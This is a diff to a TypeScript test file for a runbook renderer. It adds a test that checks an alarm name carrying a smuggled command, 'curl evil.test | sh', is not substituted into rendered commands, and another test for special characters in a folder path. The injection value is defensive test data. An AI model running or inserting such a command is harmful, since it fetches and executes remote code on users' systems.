@@ -32,6 +32,12 @@ describe('a section of the runbook', () => {
     expect(texts('The NAME of /partner-lines/prod/')).toEqual(['The NAME of /partner-lines/prod/']);
   });
 
+  it('has the name of a function in its commands only if a function can have this name', () => {
+    const alarm = 'partner-lines-staging-errors-relay; curl evil.test | sh';
+    const found = sectionIn('## One\n\n`mapping enable --name NAME`', 'one', { ...IDS, alarm });
+    expect(found?.blocks.map(textOf)).toEqual(['mapping enable --name NAME']);
+  });
+
   it('leads from commands to the pages that do the same, and from other commands nowhere', () => {
     const linksIn = (node: Node): string[] =>
       typeof node === 'string' ? [] : [...(node.href ? [node.href] : []), ...node.children.flatMap(linksIn)];
@@ -49,9 +55,9 @@ describe('a section of the runbook', () => {
   it('has the log of the own data folder in its local lines, and no local lines for a stack', () => {
     const lines = '```sh\naws logs tail x\n# local: grep ERROR .local/service.log | tail\n```';
     expect(texts(lines)).toEqual(['aws logs tail x\n']);
-    const local = sectionIn(`## One\n\n${lines}`, 'one', { ...IDS, dataDir: '/tmp/my data' });
+    const local = sectionIn(`## One\n\n${lines}`, 'one', { ...IDS, dataDir: '/tmp/my $& data' });
     expect(local?.blocks.map(textOf)).toEqual([
-      "aws logs tail x\n# local: grep ERROR '/tmp/my data'/service.log | tail",
+      "aws logs tail x\n# local: grep ERROR '/tmp/my $& data'/service.log | tail",
     ]);
   });
 
